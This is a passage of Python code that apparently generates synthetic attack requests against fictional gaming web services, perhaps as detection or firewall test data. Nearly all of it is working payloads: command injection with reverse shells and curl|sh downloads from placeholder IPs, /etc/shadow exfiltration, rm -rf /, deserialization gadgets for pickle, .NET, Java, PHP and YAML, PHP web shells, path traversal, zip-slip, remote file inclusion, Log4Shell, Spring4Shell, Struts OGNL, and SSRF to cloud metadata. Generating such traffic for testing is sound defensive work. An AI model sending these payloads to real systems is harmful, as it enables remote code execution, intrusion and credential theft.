    g.add("query", cat, "GET", "/api/players/lookup?" + qs([("name", "x' || this.role == 'admin' || 'a'=='b")]),
          g.api(H_STATS))
    g.add("leaderboard", cat, "POST", "/v2/leaderboards/query", g.api(H_STATS, ctype="application/json"),
          js({"filter": {"score": {"$gt": 0}, "$where": "function(){ var d=new Date(); while(new Date()-d<5000){}; return true; }"},
              "limit": 20}))
    g.add("leaderboard", cat, "POST", "/v2/leaderboards/query", g.api(H_STATS, ctype="application/json"),
          js({"filter": {"$expr": {"$function": {"body": "function(){ return process.env }", "args": [], "lang": "js"}}}}))
    g.add("leaderboard", cat, "POST", "/v2/matches/search", g.api(H_STATS, ctype="application/json"),
          js({"pipeline": [{"$match": {}}, {"$lookup": {"from": "accounts", "localField": "playerId",
              "foreignField": "_id", "as": "acct"}}, {"$project": {"acct.passwordHash": 1, "acct.email": 1}}]}))
    g.add("couch", cat, "POST", "/db/players/_find", g.api(H_API, ctype="application/json"),
          js({"selector": {"_id": {"$gt": None}, "role": {"$eq": "admin"}}, "fields": ["_id", "password_scheme", "derived_key", "salt"]}))
    g.add("cookie", cat, "GET", "/v1/me", g.api(H_API, token=False,
          extra=[["Cookie", "session=" + quote('{"$ne":null}', safe="") + "; lang=en"]]))
    g.add("store", cat, "POST", "/api/store/coupon", g.api(H_STORE, ctype="application/json"),
          js({"code": {"$regex": "^SUMMER"}, "playerId": "88412"}))


def a_ldapi(g):
    cat = "ldapi"
    users = ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin)(|(password=*))",
             "*)(memberOf=cn=gamemasters,ou=groups,dc=example,dc=com", "gm*)(userPassword=a*",
             "x)(!(cn=x))(|(uid=*", "*))%00"]
    for i, u in enumerate(users):
        if i % 2 == 0:
            g.add("staff-login", cat, "POST", "/staff/login", g.browser("staff.example.com",
                  ctype="application/x-www-form-urlencoded"), form([("user", u), ("pass", "anything"), ("sso", "ldap")]))
        else:
            g.add("directory", cat, "GET", "/staff/api/directory?" + qs([("cn", u)]),
                  g.browser("staff.example.com", accept="json"))


def a_crlf(g):
    cat = "crlf"
    uris = [
        "/login?return=%2Flobby%0d%0aSet-Cookie:%20sid%3Dattacker0000fixated",
        "/auth/steam/callback?next=%0d%0aLocation:%20https://evil.example.net/phish",
        "/lang/%0d%0aSet-Cookie:crlf=injection",
        "/redirect?to=https://play.example.com/%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E",
        "/share/clip/8812?utm_source=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
        "/api/replays/download?name=match.dem%0aX-Accel-Redirect:%20/internal/secrets/",
        "/tournaments/91?tab=bracket%0D%0ARefresh:%200;url=javascript:alert(1)",
        "/oauth/twitch/start?state=abc%0d%0a%0d%0a%3Chtml%3E%3Cscript%3Ealert(document.domain)%3C/script%3E",
        "/store/checkout?lang=en%250d%250aSet-Cookie:%2520cart=owned",
        "/%0d%0aX-Forwarded-Host:%20evil.example.net/servers",
    ]
    for u in uris:
        host = g.pick([H_PLAY, H_STORE, H_ESPORTS, H_STATS])
        g.add("redirect", cat, "GET", u, g.browser(host))
    g.add("body", cat, "POST", "/v1/me/settings", g.api(H_API, ctype="application/json"),
          js({"locale": "en-US\r\nSet-Cookie: sid=fixed00000000; Path=/", "theme": "dark"}))
    g.add("body", cat, "POST", "/api/webhooks/test", g.api(H_HOOKS, ctype="application/json"),
          js({"url": "https://hooks.example.com/in", "headers": {"X-Note": "ok\r\nHost: 127.0.0.1\r\n\r\nGET /admin HTTP/1.1"}}))


def a_rce(g):
    cat = "rce"
    rcon = "https://" + H_RCON + "/panel"
    # dedicated-server admin panel: hostname / map / cvars (form, JSON, query)
    hostnames = [
        "EU #3 | 128tick; curl http://198.51.100.7/x.sh|sh",
        "Owl Nest $(wget -qO- http://203.0.113.5/b.sh | bash)",
        "Fun DM`id`",
        "Retake 24/7 && nc -e /bin/sh 203.0.113.5 4444",
        "Surf\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
    ]
    for h in hostnames:
        g.add("rcon-hostname", cat, "POST", "/panel/servers/12/settings", g.browser(H_RCON,
              ctype="application/x-www-form-urlencoded", referer=rcon + "/servers/12"),
              form([("hostname", h), ("maxplayers", "24"), ("tickrate", "128"), ("csrf_token", g.alnum(32))]))
    maps = ["de_dust2$(id)", "de_mirage|cat /etc/passwd", "cp_badlands;cat${IFS}/home/steam/.steam/config/config.vdf",
            "ctf_2fort%0acurl 198.51.100.7:8000/$(whoami)", "koth_harvest || ping -c 10 198.51.100.9",
            "gm_construct;/???/??t${IFS}/???/p??s??"]
    for m in maps:
        # a literal %0a stays as the attacker typed it (raw newline on the wire once decoded)
        raw = "/panel/api/servers/12/changelevel?map=" + "%0a".join(enc(part) for part in m.split("%0a"))
        g.add("rcon-map", cat, "GET", raw, g.browser(H_RCON, accept="json", referer=rcon))
    cvars = [
        {"sv_password": "x`wget -qO- 198.51.100.9/b|sh`", "sv_cheats": "0"},
        {"sv_hostname": "test", "sv_downloadurl": "http://cdn.example.com/fastdl/;curl -d @/etc/shadow 203.0.113.5"},
        {"sv_region": "3", "sv_tags": "competitive,$(curl -s 203.0.113.5:8000/$(hostname))"},
        {"rcon_password": "changeme'; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"},
        {"sv_logfile": "1 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\""},
        {"sv_motd": "welcome & type C:\\Windows\\win.ini", "mp_timelimit": "30"},
    ]
    for c in cvars:
        g.add("rcon-cvars", cat, "PUT", "/panel/api/servers/12/cvars", g.api(H_RCON, ctype="application/json",
              ua=UA_BROWSERS[0]), js({"cvars": c, "apply": True}))
    # startup / launch arguments, backups, workshop ids
    g.add("launch-args", cat, "POST", "/panel/api/servers/12/startup", g.api(H_RCON, ctype="application/json",
          ua=UA_BROWSERS[3]), js({"args": "-game csgo +map de_dust2 -maxplayers 10; rm -rf / --no-preserve-root"}))
    g.add("launch-args", cat, "POST", "/panel/api/servers/7/variables", g.api(H_RCON, ctype="application/json",
          ua=UA_BROWSERS[3]), js({"env": "SERVER_JARFILE", "value": "server.jar\"; curl -fsSL http://198.51.100.7/m | sh; echo \""}))
    g.add("backup", cat, "POST", "/panel/servers/12/backups", g.browser(H_RCON, ctype="application/x-www-form-urlencoded"),
          form([("name", "world-$(cat /etc/shadow | base64 | curl -d @- 203.0.113.5)"), ("csrf_token", g.alnum(32))]))
    g.add("workshop", cat, "GET", "/panel/api/servers/12/workshop/install?" + qs([("id", "123456789&&curl 198.51.100.7|bash")]),
          g.browser(H_RCON, accept="json"))
    g.add("workshop", cat, "GET", "/panel/api/servers/12/workshop/install?id=2847173101%3Bc%27a%27t%20%2Fe%22t%22c%2Fpa%5Css%5Cwd",
          g.browser(H_RCON, accept="json"))
    # netdiag ping in matchmaking tools
    for host in ["192.0.2.10;id", "192.0.2.10 | sleep 10", "`sleep 5`", "$(nslookup $(whoami).oast.example.com)",
                 "192.0.2.10\ncat /etc/passwd"]:
        g.add("netdiag", cat, "GET", "/api/matchmaking/netdiag/ping?" + qs([("host", host), ("count", "4")]),
              g.api(H_API))
    # shellshock on legacy stats cgi
    g.add("shellshock", cat, "GET", "/cgi-bin/serverstats.cgi", g.tool(H_SERVERS,
          "() { :; }; /bin/bash -c 'cat /etc/passwd'"))
    g.add("shellshock", cat, "GET", "/cgi-bin/status.sh", g.tool(H_SERVERS, "Mozilla/5.0",
          extra=[["Referer", "() { ignored; }; echo Content-Type: text/plain ; echo ; /usr/bin/id"]]))
    # Lua mod with reverse shell
    lua = ('local M = {}\nfunction M.init()\n  io.popen(\'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"\')\n'
           '  os.execute("curl -s http://198.51.100.7/stage2 | sh")\nend\nreturn M\n')
    ct, body = g.multipart([("meta", None, None, js({"name": "FPS Booster", "version": "1.0"})),
                            ("script", "init.lua", "text/x-lua", lua)])
    g.add("mod-script", cat, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    # save-game deserialisation (python pickle, .NET, node-serialize, YAML)
    pickle0 = "cos\nsystem\n(S'curl http://198.51.100.7/p.sh | sh'\ntR."
    g.add("save-pickle", cat, "POST", "/v1/saves/slot/2", g.api(H_API, ctype="application/json"),
          js({"format": "pickle", "data": base64.b64encode(pickle0.encode()).decode()}))
    ct, body = g.multipart([("slot", None, None, "3"), ("save", "autosave.sav", "application/octet-stream",
                            "cposix\nsystem\np0\n(Vnc -e /bin/sh 203.0.113.5 4444\np1\ntp2\nRp3\n.")])
    g.add("save-pickle", cat, "POST", "/v1/saves/upload", g.browser(H_PLAY, accept="json", ctype=ct), body)
    g.add("save-dotnet", cat, "POST", "/v1/saves/cloud", g.api(H_API, ctype="application/json"),
          js({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
              "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib",
              "$values": ["cmd", "/c powershell -enc SQBFAFgA"]},
              "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}))
    g.add("save-node", cat, "GET", "/v1/me/preferences", g.api(H_API, token=False, extra=[["Cookie",
          "profile=" + quote(js({"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('curl 198.51.100.7|sh')}()"}), safe="")]]))
    ct, body = g.multipart([("manifest", "mod.yaml", "application/x-yaml",
                            "name: HUD Tweaks\nversion: 2.0\nhook: !!python/object/apply:os.system [\"curl 198.51.100.7/y | sh\"]\n")])
    g.add("manifest-yaml", cat, "POST", "/workshop/validate", g.browser(H_MODS, accept="json", ctype=ct), body)
    # ImageTragick in avatar upload
    mvg = ("push graphic-context\nviewbox 0 0 640 480\n"
           "fill 'url(https://cdn.example.com/a.jpg\"|curl \"http://198.51.100.7/$(id))'\npop graphic-context\n")
    ct, body = g.multipart([("avatar", "avatar.png", "image/png", mvg)])
    g.add("avatar-mvg", cat, "POST", "/v1/me/avatar", g.browser(H_PLAY, accept="json", ctype=ct), body)


def a_lfi(g):
    cat = "lfi"
    files = [
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fshadow",
        "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
        "....//....//....//....//etc/passwd",
        "../../../../etc/passwd%00.dem",
        "../../../../proc/self/environ",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "../../../home/steam/serverfiles/csgo/cfg/server.cfg",
        "../../../../root/.ssh/id_rsa",
        "/etc/passwd",
        "C:%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts",
        "..%u2216..%u2216..%u2216etc%u2216passwd",
        "../../../../var/www/.env",
        "..\\..\\..\\..\\..\\boot.ini",
        "/proc/self/cmdline",
    ]
    for i, f in enumerate(files):
        # values already hold the encoding a tool would put on the wire; encode only raw ones
        v = f if "%" in f else enc(f)
        k = i % 4
        if k == 0:
            g.add("mod-download", cat, "GET", "/api/mods/download?file=" + v, g.browser(H_MODS, accept="*/*"))
        elif k == 1:
            g.add("replay-download", cat, "GET", "/replays/get?match=88412&name=" + v, g.api(H_STATS, accept="*/*"))
        elif k == 2:
            g.add("asset", cat, "GET", "/assets/load?path=textures/" + v, g.api(H_CDN, accept="*/*", token=False))
        else:
            g.add("screenshot", cat, "GET", "/screenshots/view?img=" + v, g.browser(H_PLAY, accept="image/avif,image/webp,*/*"))
    paths = [
        "/replays/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/api/replays/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd/download",
        "/static/..%2F..%2F..%2F..%2F..%2Fvar/log/nginx/access.log",
        "/icons/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/workshop/files/..;/..;/WEB-INF/web.xml",
        "/cdn/skins/..%252f..%252f..%252f..%252fetc%252fpasswd",
    ]
    for p in paths:
        g.add("path", cat, "GET", p, g.browser(g.pick([H_STATS, H_MODS, H_CDN])))
    g.add("cookie", cat, "GET", "/wiki/Main_Page", g.browser(H_WIKI,
          cookie="lang=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd; wiki_session=" + g.hexs(32)))
    g.add("json", cat, "POST", "/api/replays/export", g.api(H_STATS, ctype="application/json"),
          js({"matchId": 88412, "format": "dem", "outputName": "../../../../../../etc/cron.d/replay"}))
    g.add("json", cat, "POST", "/panel/api/servers/12/files/read", g.api(H_RCON, ctype="application/json", ua=UA_BROWSERS[0]),
          js({"path": "/home/container/../../../etc/shadow"}))
    g.add("file-uri", cat, "GET", "/api/mods/preview?src=" + enc("file:///etc/passwd"), g.browser(H_MODS, accept="json"))
    # zip-slip in mod uploads: archive entry names and manifest paths
    fake_zip = ("PK\x03\x04\x14\x00\x00\x00\x08\x00\x8a\x6b\x7a\x58" + "\x00" * 12 + "\x2a\x00\x00\x00"
                "../../../../../opt/gameserver/plugins/evil.jar" + "x\x9c\xcbH\xcd\xc9\xc9\x07\x00")
    ct, body = g.multipart([("title", None, None, "Winter Map Pack"), ("archive", "winter_pack.zip", "application/zip", fake_zip)])
    g.add("zip-slip", cat, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    ct, body = g.multipart([("archive", "../../../../var/www/html/shell.php", "application/octet-stream", "<?php system($_GET['c']); ?>")])
    g.add("zip-slip", cat, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    ct, body = g.multipart([("map", "..\\..\\..\\..\\Windows\\System32\\evil.dll", "application/octet-stream", "MZ\x90\x00\x03\x00\x00\x00")])
    g.add("zip-slip", cat, "POST", "/servers/maps/upload", g.browser(H_SERVERS, ctype=ct), body)
    g.add("zip-slip", cat, "POST", "/workshop/api/manifest", g.api(H_MODS, ctype="application/json"),
          js({"name": "Better Hats", "files": [{"path": "scripts/hats.lua", "sha1": g.hexs(40)},
              {"path": "../../../../../home/steam/.bashrc", "sha1": g.hexs(40)}]}))
    tar_hdr = "../../../../../etc/cron.d/mod_update" + "\x00" * 64 + "0000644\x000001750\x000001750\x00"
    ct, body = g.multipart([("archive", "shaders.tar", "application/x-tar", tar_hdr + "* * * * * root curl 198.51.100.7|sh\n")])
    g.add("zip-slip", cat, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)


def a_rfi(g):
    cat = "rfi"
    uris = [
        "/forum/index.php?page=" + enc("http://203.0.113.77/shell.txt?"),
        "/forum/portal.php?skin=http%3A%2F%2F198.51.100.23%2Fc99.txt%00",
        "/stats/index.php?lang=" + enc("ftp://203.0.113.77/pub/r57.txt"),
        "/clan/modules.php?mod_loader=" + enc("https://evil.example.net/backdoor.php"),
        "/clan/index.php?include_path=" + enc("\\\\198.51.100.5\\share\\shell.php"),
        "/servers/view.php?template=" + enc("http://203.0.113.77/x.txt??"),
        "/forum/components/com_tournament/tournament.php?mosConfig_absolute_path=" + enc("http://evil.example.net/inj.txt?"),
        "/league/index.php?config%5Bpath%5D=" + enc("http://203.0.113.12/inc.txt?") + "&cmd=id",
        "/portal/modules/stats.php?root_path=" + enc("https://evil.example.net/s.txt?"),
    ]
    for u in uris:
        g.add("include", cat, "GET", u, g.browser(g.pick([H_FORUM, H_STATS, H_SERVERS])))
    g.add("include", cat, "POST", "/forum/admin/theme.php", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("theme_url", "http://203.0.113.77/shell.txt?"), ("save", "1")]))


def a_php(g):
    cat = "php"
    for u in [
        "/forum/index.php?page=php://filter/convert.base64-encode/resource=config.php",
        "/stats/view.php?tpl=php://filter/read=string.rot13/resource=../includes/db.php",
        "/forum/index.php?page=" + enc("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==") + "&c=id",
        "/clan/index.php?module=expect://id",
        "/forum/index.php?page=zip://uploads/avatars/7731.jpg%23shell",
        "/api/saves/load.php?file=phar://./uploads/saves/slot1.sav/test.txt",
        "/forum/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        "/stats/player.php?name=" + enc("' and die(system('id')) or '"),
        "/forum/search.php?pattern=" + enc("/x/e") + "&replace=" + enc("system('id')"),
    ]:
        g.add("wrapper", cat, "GET", u, g.browser(g.pick([H_FORUM, H_STATS])))
    g.add("php-input", cat, "POST", "/forum/index.php?page=php://input", g.tool(H_FORUM, "curl/8.5.0",
          ctype="application/x-www-form-urlencoded"), "<?php system('uname -a; id'); ?>")
    g.add("cgi-args", cat, "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          g.tool(H_SERVERS, "Mozilla/5.0", ctype="application/x-www-form-urlencoded"), "<?php echo shell_exec('whoami'); ?>")
    g.add("cgi-args", cat, "POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
          g.tool(H_FORUM, "Mozilla/5.0", ctype="application/x-www-form-urlencoded"), "<?php passthru('id'); die(); ?>")
    ct, body = g.multipart([("avatar", "avatar.png.php", "image/png", "<?php @eval($_POST['x']); ?>")])
    g.add("upload", cat, "POST", "/forum/profile/avatar", g.browser(H_FORUM, ctype=ct), body)
    ct, body = g.multipart([("attachment", "clan_banner.phtml", "image/gif", "GIF89a\n<?php system($_GET['c']); ?>")])
    g.add("upload", cat, "POST", "/forum/attachments/upload", g.browser(H_FORUM, ctype=ct), body)
    ct, body = g.multipart([("attachment", ".htaccess", "text/plain", "AddType application/x-httpd-php .png\nphp_flag engine on\n")])
    g.add("upload", cat, "POST", "/forum/attachments/upload", g.browser(H_FORUM, ctype=ct), body)
    gadget = ('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
              '{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";'
              's:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;'
              's:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}')
    g.add("object-injection", cat, "POST", "/api/saves/import.php", g.browser(H_PLAY, accept="json",
          ctype="application/x-www-form-urlencoded"), form([("slot", "1"), ("save", gadget)]))
    g.add("object-injection", cat, "GET", "/forum/", g.browser(H_FORUM, cookie="forum_prefs=" + enc(
          'O:8:"SaveGame":2:{s:4:"path";s:18:"../../../etc/passwd";s:8:"__wakeup";s:6:"system";}')))
    g.add("object-injection", cat, "GET", "/stats/index.php", g.browser(H_STATS, cookie="cart=" + enc(
          'a:1:{i:0;O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:'
          '{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}}')))
    g.add("log-poison", cat, "GET", "/forum/index.php", g.tool(H_FORUM, "<?php system($_GET['cmd']); ?>",
          accept="text/html"))
    g.add("eval-stdin", cat, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          g.tool(H_FORUM, "Mozilla/5.0 (X11; Linux x86_64)", ctype="text/plain"), "<?php echo md5(phpunit_rce); system('id'); ?>")


LOG4J = [
    "${jndi:ldap://198.51.100.23:1389/a}",
    "${jndi:rmi://203.0.113.8:1099/Exploit}",
    "${jndi:dns://x7k2.oast.example.com}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.8/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.23/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//q1.oast.example.com/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.oast.example.com/a}",
    "${${upper:j}ndi:ldaps://203.0.113.8/z}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.net/poc}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.23/k}",
    "${jndi:iiop://203.0.113.8:900/x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.23/d}",
    "${jndi:ldap://127.0.0.1#evil.example.net:1389/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.8/b}",
]


def a_java(g):
    cat = "java"
    L = LOG4J
    # chat / player names / signs on a Minecraft-style server web bridge
    g.add("log4shell-chat", cat, "POST", "/v1/chat/channels/global/messages", g.api(H_API, ctype="application/json",
          ua="Java/17.0.10"), js({"text": L[0], "clientMsgId": g.hexs(16)}))
    g.add("log4shell-chat", cat, "POST", "/bridge/chat", g.api(H_SERVERS, ctype="application/json", ua="Java/17.0.10"),
          js({"server": "survival-1", "player": "Steve", "message": "hey " + L[3] + " lol"}))
    g.add("log4shell-name", cat, "POST", "/v1/auth/register", g.api(H_API, ctype="application/json", token=False),
          js({"username": L[4], "email": "nope@example.net", "password": "Passw0rd!"}))
    g.add("log4shell-name", cat, "GET", "/api/players/search?" + qs([("q", L[1])]), g.browser(H_STATS, accept="json"))
    g.add("log4shell-sign", cat, "POST", "/bridge/events", g.api(H_SERVERS, ctype="application/json", ua="Java/17.0.10"),
          js({"type": "SignChangeEvent", "lines": [L[5], "", "", ""], "world": "world", "x": 12, "y": 64, "z": -90}))
    g.add("log4shell-header", cat, "GET", "/", g.tool(H_PLAY, L[2]))
    g.add("log4shell-header", cat, "GET", "/servers/list", g.browser(H_SERVERS, extra=[["X-Forwarded-For", L[6]]]))
    g.add("log4shell-header", cat, "GET", "/login", g.browser(H_PLAY, referer=L[7]))
    g.add("log4shell-header", cat, "POST", "/v1/telemetry/batch", g.api(H_TELE, ctype="application/json",
          extra=[["X-Api-Version", L[8]]]), js({"events": [{"e": "fps", "v": 144}]}))
    g.add("log4shell-cookie", cat, "GET", "/store/", g.browser(H_STORE, cookie=f"sid={g.alnum(32)}; locale={L[9]}"))
    g.add("log4shell-form", cat, "POST", "/support/ticket", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          form([("subject", "cant login"), ("body", L[10]), ("email", "p@example.org")]))
    g.add("log4shell-query", cat, "GET", "/api/matchmaking/queue?" + qs([("region", L[11]), ("mode", "ranked")]), g.api(H_API))
    g.add("log4shell-query", cat, "GET", "/wiki/Special:Search?search=" + quote(L[12], safe=""), g.browser(H_WIKI))
    g.add("log4shell-report", cat, "POST", "/v1/anticheat/reports", g.api(H_API, ctype="application/json"),
          js({"suspect": "camperjoe", "reason": "aimbot", "note": L[13]}))
    # Java deserialisation in save-game / replay uploads
    ser = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00"
           b"\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator"
           b"\xe3\xa1\x88\xeas\"\xa4H\x02\x00\x02L\x00\ncomparatorq\x00~\x00\x01L\x00\x08propertyt\x00\x12Ljava/lang/String;"
           b"xpsr\x00?org.apache.commons.collections.comparators.ComparableComparator\xfb\xf4\x99%\xb8n\xb17\x02\x00\x00xp"
           b"t\x00\x10outputPropertiesw\x04\x00\x00\x00\x03sr\x00:com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")
    b64 = base64.b64encode(ser).decode()
    g.add("deser-save", cat, "POST", "/v1/saves/slot/1", g.api(H_API, ctype="application/json", ua="Java/17.0.10"),
          js({"format": "java", "blob": b64}))
    ct, body = g.multipart([("save", "world.dat", "application/octet-stream", b64)])
    g.add("deser-save", cat, "POST", "/bridge/worlds/import", g.browser(H_SERVERS, accept="json", ctype=ct), body)
    g.add("deser-save", cat, "GET", "/bridge/session", g.browser(H_SERVERS, cookie="JSESSIONID=" + g.hexs(32).upper() +
          "; rememberMe=" + b64))
    g.add("deser-hex", cat, "POST", "/bridge/rpc", g.tool(H_SERVERS, "Java/1.8.0_181", ctype="application/x-www-form-urlencoded"),
          "payload=aced0005737200116a6176612e7574696c2e48617368536574ba44859596b8b7340300007870770c000000103f400000000000017372"
          "00346f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e732e6b657976616c75652e546965644d6170456e747279")
    # Spring4Shell, Struts OGNL, Confluence OGNL, Spring Cloud Function SpEL
    g.add("spring4shell", cat, "POST", "/bridge/profile", g.tool(H_SERVERS, "python-requests/2.31.0",
          ctype="application/x-www-form-urlencoded", extra=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]]),
          "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
          "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
          "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    g.add("struts", cat, "POST", "/league/upload.action", g.tool(H_ESPORTS, "Mozilla/5.0", extra=[["Content-Type",
          "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
          "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
          "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
          "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder("
          "{'/bin/bash','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils"
          "@copy(#process.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}"]]),
          "x")
    g.add("ognl-path", cat, "GET", "/" + quote("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime()"
          ".exec('id').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
          ".setHeader('X-Cmd-Response',#a))}", safe="") + "/", g.tool("wiki-old.example.org", "Mozilla/5.0"))
    g.add("spel-header", cat, "POST", "/functionRouter", g.tool(H_SERVERS, "curl/8.5.0", ctype="text/plain",
          extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]]),
          "test")
    g.add("jackson", cat, "POST", "/bridge/api/settings", g.api(H_SERVERS, ctype="application/json", ua="okhttp/4.12.0"),
          js(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://198.51.100.23:1389/Exploit", "autoCommit": True}]))
    g.add("fastjson", cat, "POST", "/api/cn/player/sync", g.api(H_API, ctype="application/json"),
          js({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
              "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.8:1099/Exploit", "autoCommit": True}}))
    g.add("xstream", cat, "POST", "/bridge/replays/meta", g.api(H_SERVERS, ctype="application/xml", ua="Java/17.0.10"),
          "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\">"
          "<target class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c</string>"
          "<string>curl 198.51.100.7|sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>")


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:8080/admin/shutdown",
    "http://[::1]:25575/",
    "http://0x7f000001/server-status",
    "http://2130706433:6379/",
    "http://0177.0.0.1:9000/",
    "http://127.1/admin/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.5%2F4444%200%3E%261%0A%0A%0A%0D%0A",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stats",
    "http://10.0.0.5:9200/_cat/indices?v",
    "http://localhost:2375/containers/json",
    "http://192.168.1.1/cgi-bin/luci",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://cdn.example.com@127.0.0.1:27015/",
